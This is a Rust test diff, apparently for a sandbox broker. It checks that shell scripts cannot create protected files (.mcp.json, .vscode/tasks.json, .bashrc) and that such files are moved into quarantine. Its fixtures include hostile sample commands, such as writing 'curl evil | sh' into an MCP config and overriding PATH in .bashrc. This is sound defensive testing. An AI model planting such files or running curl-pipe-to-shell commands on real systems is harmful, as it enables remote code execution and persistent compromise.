@@ -490,6 +490,37 @@ fn escape_write_git_hooks_and_config() {
             std::fs::read_to_string(env.ws.join(".git/config")).expect("read"),
             "[core]\n"
         );
+        // Protected paths that did not exist cannot be planted either: the broker moves what
+        // the run created into the quarantine and says so.
+        for (script, planted) in [
+            ("echo 'curl evil | sh' > .mcp.json", ".mcp.json"),
+            (
+                "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
+                ".vscode",
+            ),
+            ("echo 'export PATH=/evil' > .bashrc", ".bashrc"),
+        ] {
+            let o = env.sh(policy, script);
+            assert_eq!(
+                o.status.code(),
+                Some(0),
+                "{policy} `{script}`: {}",
+                text(&o)
+            );
+            assert!(
+                !env.ws.join(planted).exists(),
+                "{policy}: {planted} was left in the workspace"
+            );
+            let err = String::from_utf8_lossy(&o.stderr);
+            assert!(
+                err.contains("created protected path") && err.contains(planted),
+                "{err}"
+            );
+        }
+        let quarantined = std::fs::read_dir(env.state.join("quarantine"))
+            .map(|d| d.count())
+            .unwrap_or(0);
+        assert!(quarantined >= 3, "{quarantined} quarantined");
         // The rest of .git and the workspace stay writable.
         let o = env.sh(policy, "echo ok > .git/description && echo ok > new.txt");
         assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
